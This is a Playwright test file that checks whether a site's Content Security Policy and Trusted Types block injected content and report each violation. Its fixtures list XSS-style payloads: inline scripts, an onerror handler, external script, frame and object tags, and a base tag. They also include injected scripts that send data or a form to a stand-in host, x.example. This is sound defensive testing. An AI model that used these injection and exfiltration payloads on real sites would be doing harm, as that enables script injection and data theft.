import { expect, test } from 'playwright/test';
import { blocked, pressEverything } from './blocked.ts';
import { address, readThrough } from './served-site.ts';

test('the policy blocks nothing on a phone with the menu open', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  const heard = await blocked(page);
  await page.goto(address('/work'));
  await page.getByRole('button', { name: 'Menu' }).click();
  await readThrough(page);
  await pressEverything(page);
  expect(heard).toEqual([]);
});

/** What an attacker could get into a page, and how the browser reports that it was blocked. */
const planted: [html: string, report: string][] = [
  ['<p style="color:red">x</p>', 'style-src-attr inline'],
  ['<style>p{color:red}</style>', 'style-src-elem inline'],
  ['<script>stolen = 1</script>', 'script-src-elem inline'],
  ['<img src="/x.png" onerror="stolen = 1">', 'script-src-attr inline'],
  ['<script src="https://x.example/a.js"></script>', 'script-src-elem https://x.example/a.js'],
  ['<img src="https://x.example/a.png">', 'img-src https://x.example/a.png'],
  ['<iframe src="https://x.example/"></iframe>', 'frame-src https://x.example'],
  ['<object data="https://x.example/a.swf"></object>', 'object-src https://x.example'],
  ['<base href="https://x.example/">', 'base-uri https://x.example'],
];

test('planted styles, scripts, handlers and files are blocked and told', async ({ page }) => {
  const heard = await blocked(page);
  await page.route(address('/about'), async (route) => {
    const response = await route.fetch();
    const html = planted.map(([html]) => html).join('');
    const body = (await response.text()).replace('<main id="main">', (main) => html + main);
    await route.fulfill({ response, body });
  });
  await page.goto(address('/about'));
  for (const [html, report] of planted) {
    await expect.poll(() => heard.join('\n'), html).toContain(report);
  }
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
});

/** What an injected script could try if it ran after all. */
const tried: [deed: string, script: string, directive: string][] = [
  ['HTML inserted', "document.body.innerHTML = '<p>x</p>'", 'require-trusted-types-for'],
  ['text run as code', "setTimeout('stolen = 1')", 'require-trusted-types-for'],
  ['data sent elsewhere', "fetch('https://x.example/').catch(() => {})", 'connect-src'],
  [
    'a form sent elsewhere',
    `const form = document.createElement('form');
    form.action = 'https://x.example/';
    document.body.append(form);
    form.submit();`,
    'form-action',
  ],
  [
    'a second way around Trusted Types',
    "trustedTypes.createPolicy('another', { createHTML: (text) => text })",
    'trusted-types',
  ],
];

test('what a script could do with a page is blocked and reported', async ({ page }) => {
  const heard = await blocked(page);
  await page.goto(address('/about'));
  for (const [deed, script, directive] of tried) {
    heard.length = 0;
    await page.evaluate(`try { ${script} } catch {}`);
    await expect.poll(() => heard.join('\n'), deed).toContain(directive);
  }
  expect(page.url()).toBe(address('/about'));
});
